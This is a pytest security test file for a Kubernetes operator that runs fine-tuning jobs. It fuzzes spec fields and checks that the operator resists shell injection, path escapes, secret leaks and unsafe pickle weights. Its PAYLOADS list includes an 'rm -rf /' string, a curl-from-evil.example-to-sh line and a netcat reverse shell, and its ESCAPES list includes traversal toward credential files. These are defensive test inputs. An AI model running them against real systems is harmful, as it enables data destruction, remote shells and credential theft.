"""Security: user strings never reach a shell, secrets stay references, outputs cannot escape, unsafe
weights and remote code stay off by default, pods run non-root, the operator stays in its namespaces.
"""

from __future__ import annotations

import asyncio
import json
import logging
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from sftjob_api.layout import MANIFEST_FILE, PROGRESS_FILE, job_output_uri
from sftjob_api.progress import ProgressFile
from sftjob_api.types import SFTJob
from support.operator_env import wait_for

AREA = "Security"
NAMESPACE = "ml"
# Bounded and derandomised: the same examples on every run.
FUZZ_EXAMPLES = 150
PAYLOADS = ("$(touch /tmp/pwned)", "`id`", "; rm -rf / #", "' && curl evil.example | sh '", "\n/bin/sh -c x",
            "${IFS}cat${IFS}/etc/passwd", "\"; exec bash; \"", "| nc -e /bin/sh 10.0.0.1 4444", "%0Aid", "\\x00")
PLANTED = "PLANTED-s3cr3t-9f8e7d6c5b4a"
PLANTED_ENV = "PLANTED-env-0a1b2c3d4e5f"


def _base_document() -> dict[str, Any]:
    return {
        "apiVersion": "sftjob.dev/v1alpha1",
        "kind": "SFTJob",
        "metadata": {"name": "fuzz", "namespace": NAMESPACE, "uid": "00000000-0000-0000-0000-000000000001"},
        "spec": {
            "model": {"source": "hf://org/model", "secretRef": {"name": "model-creds"}},
            "dataset": {"train": {"uri": "s3://data-bucket/train.jsonl"}, "secretRef": {"name": "data-creds"}},
            "output": {"uri": "s3://out-bucket/runs", "secretRef": {"name": "out-creds"}},
        },
    }


_text = st.one_of(st.sampled_from(PAYLOADS),
                  st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40))
_path = _text.filter(lambda s: "://" not in s and ".." not in s)
# Names close to valid DNS labels, with the characters a path escape needs ('.', '/').
_label = st.one_of(st.sampled_from(["..", ".", "a/b", "../x", "x/..", "/abs", "x%2F.."]),
                   st.from_regex(r"[a-z0-9][a-z0-9./-]{0,20}", fullmatch=True))


def _setters() -> st.SearchStrategy[list[tuple[str, Any]]]:
    """(dotted wire path, value) for every string field of the spec; each example sets a random subset."""
    fields: list[st.SearchStrategy[tuple[str, Any]]] = [
        st.tuples(st.just("spec.model.source"), st.one_of(_path, _text.map(lambda s: f"s3://model-bucket/{s}")
                                                          .filter(lambda s: ".." not in s))),
        st.tuples(st.just("spec.model.revision"), _text),
        st.tuples(st.just("spec.model.secretRef.name"), _text),
        st.tuples(st.just("spec.dataset.train.uri"), _path),
        st.tuples(st.just("spec.dataset.validation"), _path.map(lambda s: {"uri": s})),
        st.tuples(st.just("spec.dataset.secretRef.name"), _text),
        st.tuples(st.just("spec.dataset.columnMap"), st.dictionaries(_text, _text, max_size=3)),
        st.tuples(st.just("spec.dataset.chatTemplate"), _text.map(lambda s: "{{ " + s + " }}")),
        st.tuples(st.just("spec.method.lora.targetModules"), st.lists(_text, min_size=1, max_size=3)),
        st.tuples(st.just("spec.method.promptTuning.initText"), _text),
        st.tuples(st.just("spec.compute.image"), _text),
        st.tuples(st.just("spec.compute.tolerations"),
                  st.lists(st.fixed_dictionaries({"key": _text, "value": _text}), max_size=2)),
        st.tuples(st.just("spec.checkpointing.resumeFrom"), _path),
        st.tuples(st.just("spec.output.uri"), _path),
        st.tuples(st.just("spec.output.secretRef.name"), _text),
    ]
    return st.lists(st.one_of(fields), min_size=1, max_size=8)


def _set(document: dict[str, Any], dotted: str, value: Any) -> None:
    node = document
    *parents, last = dotted.split(".")
    for key in parents:
        node = node.setdefault(key, {})
    node[last] = value


def _user_strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in _user_strings(k) + _user_strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _user_strings(v)]
    return []


def _shell_text(manifest: Any) -> list[str]:
    """Every string the cluster could hand to a shell: the entrypoint, container commands and args."""
    out: list[str] = []
    if isinstance(manifest, dict):
        for key, value in manifest.items():
            if key in ("entrypoint", "command", "args"):
                out += _user_strings(value)
            else:
                out += _shell_text(value)
    elif isinstance(manifest, list):
        for value in manifest:
            out += _shell_text(value)
    return out


@pytest.mark.scenario(AREA, f"hypothesis fuzz ({FUZZ_EXAMPLES} derandomised examples) of every string field → "
                      "the entrypoint and every command/args are byte-identical to a benign job's; "
                      "the job travels as JSON data")
@settings(max_examples=FUZZ_EXAMPLES, derandomize=True, deadline=None,
          suppress_health_check=[HealthCheck.filter_too_much, HealthCheck.too_slow])
@given(_setters())
def test_user_strings_never_reach_a_shell(setters: list[tuple[str, Any]]) -> None:
    from sftjob_operator.rayjob import CONFIG_ENV, build_rayjob, check_renderable, job_config
    from sftjob_operator.settings import Settings

    benign = build_rayjob(SFTJob.model_validate(_base_document()), 1, Settings())
    document = _base_document()
    for dotted, value in setters:
        _set(document, dotted, value)
    try:
        job = SFTJob.model_validate(document)
    except ValidationError:
        assume(False)  # rejected before any rendering: nothing reaches the cluster
        raise
    assume(not check_renderable(job))  # the operator sets InvalidSpec and renders nothing
    manifest = build_rayjob(job, 1, Settings())
    assert manifest["spec"]["entrypoint"] == benign["spec"]["entrypoint"] == "python -m sftjob_trainer"
    assert _shell_text(manifest) == _shell_text(benign)
    assert "runtimeEnvYAML" not in manifest["spec"]
    for group in [manifest["spec"]["rayClusterSpec"]["headGroupSpec"],
                  *manifest["spec"]["rayClusterSpec"]["workerGroupSpecs"]]:
        for container in group["template"]["spec"]["containers"]:
            config = next(e["value"] for e in container["env"] if e["name"] == CONFIG_ENV)
            assert json.loads(config) == job_config(job)  # data, not code


@pytest.mark.scenario(AREA, "rendered RayJobs: every pod non-root with a restricted security context; "
                      "credentials only as Secret references (envFrom), never inline")
def test_rendered_pods_are_restricted_and_secrets_are_references() -> None:
    from sftjob_operator.rayjob import build_rayjob
    from sftjob_operator.settings import Settings

    manifest = build_rayjob(SFTJob.model_validate(_base_document()), 1, Settings())
    spec = manifest["spec"]
    pods = [spec["submitterPodTemplate"]["spec"], spec["rayClusterSpec"]["headGroupSpec"]["template"]["spec"],
            *[g["template"]["spec"] for g in spec["rayClusterSpec"]["workerGroupSpecs"]]]
    assert len(pods) == 3
    for pod in pods:
        assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
        assert "hostNetwork" not in pod and "hostPID" not in pod and "hostIPC" not in pod
        for container in pod["containers"]:
            security = container["securityContext"]
            assert security["allowPrivilegeEscalation"] is False and security["runAsNonRoot"] is True
            assert security["capabilities"] == {"drop": ["ALL"]}
            assert "privileged" not in security
            for env in container.get("env", []):
                assert "valueFrom" not in env  # credentials come only through envFrom Secret references
            for source in container.get("envFrom", []):
                assert set(source) <= {"secretRef", "prefix"} and set(source["secretRef"]) == {"name"}
    names = {s["secretRef"]["name"] for s in spec["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
             ["containers"][0]["envFrom"]}
    assert names == {"model-creds", "data-creds", "out-creds"}


# Output locations: each crafted spec must be rejected, or land under spec.output.uri.
ESCAPES = [
    ("spec.output.uri", "s3://out-bucket/runs/../../other-bucket"),
    ("spec.output.uri", "/data/out/../../etc"),
    ("spec.output.uri", ".."),
    ("spec.output.uri", "s3://Other_Bucket/x"),
    ("spec.output.uri", "file:///etc/passwd"),
    ("spec.output.uri", "gs://other/x"),
    ("metadata.name", "../other-bucket"),
    ("metadata.name", "a/../../b"),
    ("metadata.name", "x/y"),
    ("metadata.name", "."),
    ("metadata.namespace", ".."),
    ("metadata.namespace", "../../other-bucket"),
    ("metadata.namespace", "a/b"),
    ("spec.checkpointing.resumeFrom", "s3://out-bucket/runs/../secrets"),
    ("spec.dataset.train.uri", "/data/../../root/.aws/credentials"),
]


def _rejected_by_operator(document: dict[str, Any]) -> bool:
    from sftjob_api.field_problems import check_document
    from sftjob_operator.rayjob import check_renderable

    job, _ = check_document(document)
    return job is None or bool(check_renderable(job))


@pytest.mark.scenario(AREA, "output locations cannot escape: `..`, absolute tricks, other buckets and crafted "
                      "names/namespaces are rejected or land under spec.output.uri")
@pytest.mark.parametrize(("field", "value"), ESCAPES, ids=[f"{f}={v}" for f, v in ESCAPES])
def test_output_cannot_escape(field: str, value: str) -> None:
    document = _base_document()
    _set(document, field, value)
    if _rejected_by_operator(document):
        return
    job = SFTJob.model_validate(document)
    base = job.spec.output.uri.rstrip("/")
    out = job_output_uri(job.spec.output.uri, job.name, job.metadata.namespace)
    assert out.startswith(base + "/")
    assert ".." not in out[len(base):].split("/")
    assert out.count("/") == base.count("/") + 2  # exactly <namespace>/<name> below the output URI


@pytest.mark.scenario(AREA, f"fuzzed names and namespaces ({FUZZ_EXAMPLES} derandomised examples) → the job output "
                      "URI is exactly two segments under spec.output.uri")
@settings(max_examples=FUZZ_EXAMPLES, derandomize=True, deadline=None,
          suppress_health_check=[HealthCheck.filter_too_much])
@given(name=_label, namespace=_label)
def test_fuzzed_names_stay_under_the_output(name: str, namespace: str) -> None:
    document = _base_document()
    document["metadata"].update(name=name, namespace=namespace)
    assume(not _rejected_by_operator(document))
    job = SFTJob.model_validate(document)
    out = job_output_uri(job.spec.output.uri, job.name, job.metadata.namespace)
    assert out == f"s3://out-bucket/runs/{namespace}/{name}"
    assert "/" not in name and "/" not in namespace and name not in (".", "..") and namespace not in (".", "..")


@pytest.mark.scenario(AREA, "trustRemoteCode and allowUnsafeWeights default to false")
def test_unsafe_model_options_default_off() -> None:
    job = SFTJob.model_validate(_base_document())
    assert job.spec.model.trust_remote_code is False
    assert job.spec.model.allow_unsafe_weights is False


@pytest.fixture(scope="module")
def pickle_only_model(tiny_model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny model saved with pickle weights only (pytorch_model.bin), as an old or hostile repo ships it."""
    import shutil

    import torch
    from safetensors.torch import load_file

    target = tmp_path_factory.mktemp("pickle-model")
    for path in tiny_model_dir.iterdir():
        if path.suffix != ".safetensors":
            shutil.copy(path, target / path.name)
    # transformers 5 always saves safetensors: write the legacy pickle file the way torch does.
    torch.save(load_file(tiny_model_dir / "model.safetensors"), target / "pytorch_model.bin")
    assert (target / "pytorch_model.bin").is_file() and not list(target.glob("*.safetensors"))
    return target


@pytest.mark.scenario(AREA, "pickle-only weights (pytorch_model.bin) are refused with a clear error unless "
                      "allowUnsafeWeights, then they load")
def test_pickle_weights_need_allow_unsafe_weights(pickle_only_model: Path) -> None:
    from sftjob_api.types import ModelSpec
    from sftjob_trainer.model_loading import load_model, load_tokenizer
    from sftjob_trainer.trainer_error import TrainerError

    spec = ModelSpec(source=str(pickle_only_model))
    tokenizer = load_tokenizer(pickle_only_model, spec)
    with pytest.raises(TrainerError) as caught:
        load_model(pickle_only_model, spec, tokenizer, "fp32")
    assert caught.value.code == "ModelUnreadable" and caught.value.retryable is False
    assert "only safetensors load unless model.allowUnsafeWeights" in caught.value.message
    allowed = ModelSpec(source=str(pickle_only_model), allow_unsafe_weights=True)
    model = load_model(pickle_only_model, allowed, tokenizer, "fp32")
    assert model.config.model_type == "llama"


def _everything(k8s: Any) -> str:
    """Every object the emulator stores (SFTJobs, RayJobs, events, ...), except the Secrets that hold the value."""
    return json.dumps([o.raw for o in k8s.objects.values() if o.raw.get("kind") != "Secret"])


@pytest.mark.slow
@pytest.mark.scenario(AREA, "planted secret (in the output Secret the operator reads, and in the operator's env) "
                      "never appears in a RayJob, status, event, annotation or log line through a whole job life")
async def test_planted_secret_never_leaks_from_the_operator(k8s: Any, api: Any, operator: Any, s3_server: Any,
                                                             caplog: pytest.LogCaptureFixture,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    import base64

    monkeypatch.setenv("HF_TOKEN", PLANTED_ENV)
    monkeypatch.setenv("AWS_SESSION_TOKEN", PLANTED_ENV)
    caplog.set_level(logging.DEBUG)
    bucket = s3_server.create_bucket("leak-check")
    await api.create_secret(NAMESPACE, "out-creds", {
        "AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": PLANTED,
        "AWS_ENDPOINT_URL": s3_server.endpoint, "AWS_REGION": "us-east-1"})
    await api.create_secret(NAMESPACE, "model-creds", {"HF_TOKEN": PLANTED})
    caplog.clear()  # from here on, only the operator reads the Secrets
    await operator()
    document = _base_document()
    document["metadata"] = {"name": "leak", "namespace": NAMESPACE}
    document["spec"]["output"]["uri"] = f"{bucket}/runs"
    await api.create_sftjob(document)
    rayjob = await wait_for(lambda: api.get_rayjob(NAMESPACE, "leak-a1"), what="the RayJob")
    assert rayjob["spec"]["entrypoint"] == "python -m sftjob_trainer"

    # Play the trainer (progress.json, manifest.json in S3, read with the Secret's keys) and KubeRay.
    client = s3_server.client()
    key = "runs/ml/leak"
    progress = ProgressFile(phase="Running", attempt=1, step=3, total_steps=6, updated_at="2025-01-01T00:00:00Z")
    client.put_object(Bucket="leak-check", Key=f"{key}/{PROGRESS_FILE}", Body=progress.model_dump_json(by_alias=True))
    await api.play_kuberay(NAMESPACE, "leak-a1", {"jobDeploymentStatus": "Running", "jobStatus": "RUNNING"})

    async def step_three() -> bool:
        body = await api.get_sftjob(NAMESPACE, "leak")
        return ((body or {}).get("status", {}).get("progress") or {}).get("step") == 3

    await wait_for(step_three, timeout=20, what="progress read from S3 with the Secret's credentials")
    done = progress.model_copy(update={"phase": "Succeeded", "step": 6, "percentage": 100.0})
    client.put_object(Bucket="leak-check", Key=f"{key}/{PROGRESS_FILE}", Body=done.model_dump_json(by_alias=True))
    client.put_object(Bucket="leak-check", Key=f"{key}/{MANIFEST_FILE}", Body=b"{}")
    await api.play_kuberay(NAMESPACE, "leak-a1", {"jobDeploymentStatus": "Complete", "jobStatus": "SUCCEEDED"})

    async def succeeded() -> bool:
        body = await api.get_sftjob(NAMESPACE, "leak")
        return (body or {}).get("status", {}).get("phase") == "Succeeded"

    await wait_for(succeeded, timeout=20, what="Succeeded")
    await asyncio.sleep(0.5)  # let Kopf post the queued events
    encoded = base64.b64encode(PLANTED.encode()).decode()
    stored = _everything(k8s)
    logs = "\n".join(r.getMessage() for r in caplog.records)
    for secret in (PLANTED, PLANTED_ENV, encoded):
        assert secret not in stored
        assert secret not in logs
    # Not vacuous: the operator read the Secret (to reach S3), logged, and the dump holds the RayJob.
    assert "GET /api/v1/namespaces/ml/secrets/out-creds" in logs and '"kind": "RayJob"' in stored


@pytest.mark.scenario(AREA, "the operator acts only in the namespaces it watches: SFTJOB_WATCH_NAMESPACES "
                      "becomes Kopf's namespace list, never cluster-wide")
def test_operator_is_scoped_to_its_namespaces(monkeypatch: pytest.MonkeyPatch) -> None:
    # Kopf scopes the watches; what the operator owns is passing the list (the live run on the emulator
    # is test_operator_scope.py).
    import kopf

    from sftjob_operator.__main__ import main

    seen: dict[str, Any] = {}
    monkeypatch.setattr(kopf, "run", lambda **kwargs: seen.update(kwargs))
    monkeypatch.setattr(kopf, "configure", lambda **_: None)
    monkeypatch.setenv("SFTJOB_WATCH_NAMESPACES", "ml, team-b")
    assert main([]) == 0
    assert seen["clusterwide"] is False and tuple(seen["namespaces"]) == ("ml", "team-b")
    monkeypatch.setenv("SFTJOB_WATCH_NAMESPACES", "ml,../x")
    assert main([]) == 2  # a malformed list stops the operator instead of widening its reach
